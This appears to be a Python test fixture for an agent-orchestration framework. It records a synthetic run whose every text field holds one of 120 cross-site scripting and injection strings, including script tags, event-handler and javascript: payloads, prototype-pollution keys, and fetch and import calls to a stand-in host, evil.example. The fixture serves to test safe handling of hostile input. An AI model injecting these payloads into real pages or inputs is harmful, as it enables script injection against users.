"""Text that would like to be run: 120 strings, and a run that carries each of them in every text it has."""

from typing import Final

from orchestra.checkpoint.manager import CheckpointManager
from orchestra.codec.frame import Framer
from orchestra.codec.values import contribution, freeze
from orchestra.ids import AgentId, EffectKey, Instant, PhaseId, RunId, TaskId
from orchestra.model import events as ev
from orchestra.model.records import (
    Blocker,
    Decision,
    Effect,
    Environment,
    Failure,
    Issue,
    Output,
    Part,
    Score,
    ToolCall,
    Verdict,
)
from orchestra.model.state import WorkflowRef
from orchestra.ports.store import Store

RUN: Final = RunId("hostile_20261115_143022_xx")
_CODES: Final = ("ran=1", "ran(1)", "document.title='ran'", "fetch('//evil.example/')")
_SHAPES: Final = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "'><svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    '<a href="javascript:{0}">click</a>',
    "javascript:{0}",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mi xlink:href='javascript:{0}'>",
    "<style>@import '//evil.example/';</style>{0}",
    "<link rel=stylesheet href=//evil.example/{0}>",
    "<base href=//evil.example/>{0}",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<embed src='javascript:{0}'>",
    "<form action='javascript:{0}'><button>go</button></form>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "`${{{0}}}`",
    "${{{0}}}",
    "{{{{{0}}}}}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "__proto__",
    "constructor.prototype.{0}",
)
STRINGS: Final = tuple(shape.format(code) for shape in _SHAPES for code in _CODES)
KEYS: Final = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "$bytes",
    "$more",
    "$cut",
    "length",
    "",
)


async def record(store: Store, start: Instant) -> None:
    """Record the run: a turn for each string, with it in every text."""
    clock = Clock(start)
    async with CheckpointManager(store, clock=clock, owner="hostile") as manager:
        first = STRINGS[0]
        inputs = freeze({first: first, **dict.fromkeys(KEYS, first)}, manager.addresser)
        started = ev.RunStarted(
            at=clock.now(),
            run=RUN,
            workflow=WorkflowRef(name=first),
            inputs=inputs,
            environment=Environment(version=first),
        )
        active = await manager.begin(started, ev.PhaseStarted(at=clock.now(), phase=PhaseId("phase")))
        for number, text in enumerate(STRINGS):
            for turn in Turns(manager, store, clock.forward(), number, text).all():
                await manager.record(active, turn)
        await manager.release(active)


class Clock:
    """Goes on by a second when it is told to."""

    def __init__(self, start: Instant) -> None:
        self._now = start

    def now(self) -> Instant:
        """The moment reached."""
        return self._now

    def monotonic(self) -> float:
        """The same in seconds."""
        return self._now / 1e6

    def forward(self) -> Instant:
        """A second later."""
        self._now = Instant(self._now + 1_000_000)
        return self._now


class Turns:
    """What happens with one string: an agent begins, is judged, and fails."""

    def __init__(self, manager: CheckpointManager, store: Store, at: Instant, number: int, text: str) -> None:
        self.manager, self.store, self.at, self.text = manager, store, at, text
        self.agent, self.task = AgentId(f"{text} {number % 7}"), TaskId(f"{text} {number}")
        self.phase, self.name = PhaseId("phase"), f"{text} {number}"
        many = {text: [text, {"text": text}], **dict.fromkeys(KEYS, text)}
        self.value = freeze(many, manager.addresser)

    def all(self) -> list[list[ev.Event]]:
        """The turns in order."""
        return [[*self.begun(), *self.said()], self.judged(), self.ended()]

    def begun(self) -> list[ev.Event]:
        """The agent begins, decides and gets somewhere."""
        at, agent, text = self.at, self.agent, self.text
        decision = Decision(
            at=at,
            agent=agent,
            kind=text,
            description=text,
            rationale=text,
            alternatives=(text, text),
            details=self.value,
        )
        blocker = Blocker(by=text, reason=text, at=at)
        return [
            ev.TaskPlanned(
                at=at,
                task=self.task,
                agent=agent,
                phase=self.phase,
                description=text,
                effect_key=EffectKey(text),
            ),
            ev.AgentLaunched(at=at, agent=agent, task=self.task, attempt=1, role="mercury", model=text),
            ev.DecisionMade(at=at, decision=decision),
            ev.MilestoneReached(
                at=at, agent=agent, progress=0.5, step=text, private=self.value, blockers=(blocker,)
            ),
        ]

    def said(self) -> list[ev.Event]:
        """The agent talks, and leaves something behind."""
        at, agent, text = self.at, self.agent, self.text
        call = {"id": self.name, "name": text, "arguments": {text: text}}
        parts = (
            Part(kind="reasoning", text=text),
            Part(kind="text", text=text, data=self.value),
            Part(kind="tool_call", data=freeze(call, self.manager.addresser)),
            Part(kind="other", data=freeze({"error": text}, self.manager.addresser)),
        )
        record = ToolCall(
            tool=text, agent=agent, task=self.task, arguments=self.value, status="done", result=self.value
        )
        joined = contribution("replace", {text: text, "list": [text]}, self.manager.addresser)
        return [
            ev.TextEmitted(at=at, agent=agent, text=text),
            ev.MessagePosted(
                at=at, message=self.name, role="assistant", agent=agent, parts=parts, model=text
            ),
            ev.ToolCallChanged(at=at, call=f"#{self.name}", record=record),
            ev.ContextContributed(at=at, name=self.name, contribution=joined, agent=agent),
            written(self.manager, self.store, at, self.name, text),
        ]

    def judged(self) -> list[ev.Event]:
        """Somebody judges, asks, and is about to do something."""
        at, agent, text, name = self.at, self.agent, self.text, self.name
        score = Score(criterion=text, score=0.5, rationale=text)
        issues = (Issue(description=text, where=text),)
        verdict = Verdict(kind="accept", score=0.5, feedback=text)
        effect = Effect(name=text, task=self.task, intent=self.value, intended_at=at)
        return [
            ev.CriterionScored(
                at=at,
                evaluation=name,
                agent=agent,
                phase=self.phase,
                score=score,
                issues=issues,
                feedback=text,
            ),
            ev.EvaluationCompleted(at=at, evaluation=name, agent=agent, phase=self.phase, verdict=verdict),
            ev.WaitOpened(
                at=at,
                wait=name,
                waits_for="question",
                text=text,
                agent=agent,
                task=self.task,
                choices=(text, "no"),
                details=self.value,
            ),
            ev.EffectIntended(at=at, effect=name, details=effect),
        ]

    def ended(self) -> list[ev.Event]:
        """An answer, and a failure."""
        at, text = self.at, self.text
        failure = Failure(error=text, message=text, at=at, stack=text, details=self.value)
        return [
            ev.WaitClosed(at=at, wait=self.name, answer=self.value),
            ev.TaskFailed(at=at, task=self.task, failure=failure, final=False),
        ]


def written(manager: CheckpointManager, store: Store, at: Instant, name: str, text: str) -> ev.OutputWritten:
    """An output whose content and name are a text."""
    framer, data = Framer(manager.addresser), text.encode()
    digest = framer.address("blob", data)
    store.put_objects([(digest, framer.write("blob", data))])
    path = f"{name.replace('/', '_')}.html"
    return ev.OutputWritten(
        at=at, path=path, output=Output(digest=digest, media_type="text/html", size=len(data), at=at)
    )
